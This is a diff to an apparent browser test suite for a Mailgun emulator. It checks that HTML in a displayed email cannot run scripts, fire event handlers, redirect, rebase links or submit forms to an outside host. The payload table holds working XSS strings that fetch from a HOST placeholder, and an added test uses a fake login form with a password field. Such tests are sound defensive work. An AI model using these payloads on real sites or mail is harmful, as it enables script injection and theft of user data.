@@ -7,7 +7,6 @@ const attacks = {
   'a script': '<script>top.document.title = "taken"; fetch("HOST/script")</script>',
   'a script from elsewhere': '<script src="HOST/script.js"></script>',
   'an event handler': '<img src=x onerror="fetch(\'HOST/handler\')"><body onload="fetch(\'HOST/onload\')">',
-  'a form that is sent by itself': '<form id=f action="HOST/form"><input name=a autofocus onfocus="f.submit()"></form>',
   'a page that turns into another': '<meta http-equiv="refresh" content="0; url=HOST/refresh">',
   'another base': '<base href="HOST/base/"><img src="picture.png">',
   'a picture with a script':
@@ -60,6 +59,17 @@ inBrowser('in a browser, the HTML of a message', () => {
     expect(asked.filter((path) => path === '/_emulator/page/domains')).toEqual([]);
     expect(await page.title()).toBe('Inbox · Mailgun emulator');
     expect(page.url().startsWith(`${emulator.url}/_emulator#/inbox/`)).toBe(true);
+  });
+
+  test('sends no form, even when its button is pressed', async () => {
+    await send({ subject: 'Form', html: `<form action="${host}/form"><input name="password" value="x"><button>Log in</button></form>` });
+    await send({ subject: 'Other', html: '<p>harmless too</p>' });
+    const { page } = await open();
+    await row(page, 'Form').click();
+    await frame(page).getByRole('button', { name: 'Log in' }).click();
+    await row(page, 'Other').click();
+    await frame(page).getByText('harmless too').waitFor();
+    expect(reached.filter((one) => one !== 'connected')).toEqual([]);
   });
 
   test('leads neither the page nor its own frame elsewhere by a link, whatever the link wants', async () => {
